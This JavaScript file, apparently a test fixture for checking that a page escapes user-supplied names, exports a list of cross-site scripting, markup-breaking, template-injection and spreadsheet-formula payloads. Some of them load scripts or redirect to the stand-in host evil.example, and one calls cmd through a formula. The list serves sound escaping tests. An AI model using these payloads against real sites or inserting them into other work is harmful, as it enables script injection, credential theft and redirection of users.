// Texts that would run code, break the markup or load a resource if a page did not escape them. All are valid names.
const RUN = "window.xss=1";
const TAGS = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/src=data:,${RUN}>`,
  `<img src=x onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}"`, `<img/src/onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script>${RUN}</script></svg>`, `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<body onload=${RUN}>`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>">`,
  `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action="//evil.example/"><button>Send</button></form>`, `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`, `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`, `<a href="javascript:${RUN}">click</a>`, `<a href="JaVaScRiPt:${RUN}">click</a>`,
  `<style>*{background:url(//evil.example/x)}</style>`, `<p style="position:fixed;inset:0">over everything</p>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[<script>${RUN}</script>]]>`, `<x onclick=${RUN} id=x>click</x>`,
];
const ATTRIBUTES = [
  `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}`, `x" style="color:red`, `" hx-get="/x" hx-trigger="load`,
  `" data-hx-on="${RUN}`, `javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `\`onload=${RUN}`, `\\"><script>${RUN}</script>`,
];
const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}`, `&amp;lt;b&amp;gt;`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `{{7*7}}`, `{% include "x" %}`, `\${7*7}`, `=HYPERLINK("//evil.example","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `\u{ff1c}script\u{ff1e}${RUN}`,
];

export const PAYLOADS = [...TAGS, ...ATTRIBUTES, ...ENTITIES];
